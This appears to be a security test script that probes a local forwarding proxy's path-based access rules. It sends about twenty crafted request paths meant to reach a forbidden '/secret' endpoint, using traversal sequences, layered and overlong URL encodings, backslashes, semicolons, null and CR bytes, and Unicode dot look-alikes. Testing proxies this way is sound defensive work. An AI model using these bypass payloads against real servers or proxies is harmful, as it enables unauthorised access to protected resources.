"""Reaches a forbidden path of the allowed host."""

# proxy: yes
import socket
from kit import *

for path in (
    "/secret",
    "/ok/../secret",
    "/ok/%2e%2e/secret",
    "/ok/%252e%252e/secret",
    "/ok/..%2fsecret",
    "/ok/.%2e/secret",
    "/ok/..;/secret",
    "/ok/..\\secret",
    "/ok/%5c..%5csecret",
    "/OK/x",
    "//ok/x",
    "/ok",
    "/secret?/ok/",
    "/secret#/ok/",
    "/./ok/../secret",
    "/ok/\t/secret",
    "/ok/%c0%ae%c0%ae/secret",
    "/ok/%25c0%25ae%25c0%25ae/secret",
    "/ok/%u002e%u002e/secret",
    "/ok/.%00./secret",
    "/ok/.%0d./secret",
    "/ok/%ef%bc%8e%ef%bc%8e/secret",
):
    item = socket.create_connection(("127.0.0.1", 3128), timeout=2)
    item.sendall(f"GET http://localhost:{WEB_PORT}{path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
    attempt(lambda: print(path, item.recv(40)))
